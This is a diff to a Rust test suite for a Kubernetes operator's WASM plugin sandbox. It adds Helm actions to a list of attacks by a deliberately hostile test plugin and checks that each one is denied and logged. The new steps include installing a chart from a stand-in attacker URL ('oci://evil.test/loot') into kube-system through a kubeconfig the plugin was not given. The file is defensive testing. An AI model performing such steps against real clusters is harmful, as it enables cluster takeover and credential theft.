@@ -18,7 +18,7 @@ use super::support::{self, FakeKube, NOW, echo_still_serves, load, try_load};
 use super::workload_access::{API, CLUSTER, Env, NS, data, export, is, scan_for_leaks};
 
 /// Every grant a plugin can be given, scoped as wide as the grammar allows.
-const EVERYTHING: [&str; 10] = [
+const EVERYTHING: [&str; 11] = [
     "kube-read:*",
     "kube-read-cluster:*",
     "namespace:*",
@@ -28,6 +28,7 @@ const EVERYTHING: [&str; 10] = [
     "secrets-namespace:*",
     "workload",
     "omni",
+    "helm",
     "clock",
 ];
 
@@ -132,11 +133,15 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
             "key": "serviceAccountKey", "ownerKey": "k", "ownerValue": "v"},
         // 15: points its own status at the key Secret, for the next call.
         {"do": "claim", "name": "omni-service-account"},
+        // 16-17: Helm through a kubeconfig the object does not name: a chart of its choosing into kube-system, and
+        // a look at what runs there.
+        {"do": "helmEnsure", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "chart": "oci://evil.test/loot"},
+        {"do": "helmStatus", "kubeconfig": {"name": "edge-kubeconfig", "key": "kubeconfig"}, "release": "cilium"},
     ]);
     env.apply(&release("h", "app-config", attacks)).await;
     let obj = env
         .wait("OmniHelmRelease", "h", "the attacks' report", |o| {
-            results(o).len() == 16
+            results(o).len() == 18
         })
         .await;
     let r = results(&obj);
@@ -230,8 +235,8 @@ async fn a_plugin_with_every_grant_obtains_no_credential_and_every_denial_is_rep
         logged.contains("plugin \"hostile\" was denied kube-read"),
         "no denial was logged"
     );
-    // 13 refusals in the first call, 3 in the second.
-    assert!(env.stats.denials.load(Ordering::Relaxed) >= 16);
+    // 15 refusals in the first call, 3 in the second.
+    assert!(env.stats.denials.load(Ordering::Relaxed) >= 18);
 
     // A reconcile without denials clears the report.
     env.apply(&release("h", "app-config", json!([]))).await;
@@ -574,14 +579,15 @@ async fn start_up_survives_bad_plugins_and_refuses_squatters_impostors_and_rival
     put("omni-kubeconfig-export", &guests::wasm("hostile"));
     // A built-in replaced on purpose, with grants configured for it: served, and said at WARN with both digests.
     put("omni-machine", omni_operator::defaults::PLUGINS[4].wasm);
-    // Two plugins claiming one kind.
-    put("hostile", &guests::wasm("hostile"));
+    // Two plugins claiming one kind: the hostile guest replaces the built-in OmniHelmRelease plugin (with grants
+    // configured for that name), and a rival claims the same kind.
+    put("omni-helm-release", &guests::wasm("hostile"));
     put("rival", &guests::wasm("hostile"));
     let mut sources = PluginSources {
         plugin_dir: Some(dir.path().to_path_buf()),
         ..PluginSources::default()
     };
-    for name in ["hostile", "rival", "squatter"] {
+    for name in ["omni-helm-release", "rival", "squatter"] {
         sources.extra_grants.insert(
             name.into(),
             EVERYTHING.iter().map(|g| g.to_string()).collect(),
@@ -632,7 +638,7 @@ async fn start_up_survives_bad_plugins_and_refuses_squatters_impostors_and_rival
     );
     assert!(
         refused["rival"].contains(
-            "plugins \"hostile\" and \"rival\" both reconcile omni.texashpc.com/OmniHelmRelease"
+            "plugins \"omni-helm-release\" and \"rival\" both reconcile omni.texashpc.com/OmniHelmRelease"
         ),
         "{}",
         refused["rival"]
@@ -652,7 +658,15 @@ async fn start_up_survives_bad_plugins_and_refuses_squatters_impostors_and_rival
         .expect("export");
     let built_in = omni_operator::runtime::Digest::of(omni_operator::defaults::PLUGINS[5].wasm);
     assert_eq!(export.digest(), built_in);
-    assert!(names.contains(&"hostile".to_string()));
+    let hostile = omni_operator::runtime::Digest::of(&guests::wasm("hostile"));
+    assert_eq!(
+        operator
+            .registry()
+            .get("omni-helm-release")
+            .expect("the replacement")
+            .digest(),
+        hostile
+    );
     let logged = String::from_utf8_lossy(&support::logs().lock().unwrap()).into_owned();
     let machine =
         omni_operator::runtime::Digest::of(omni_operator::defaults::PLUGINS[4].wasm).to_string();
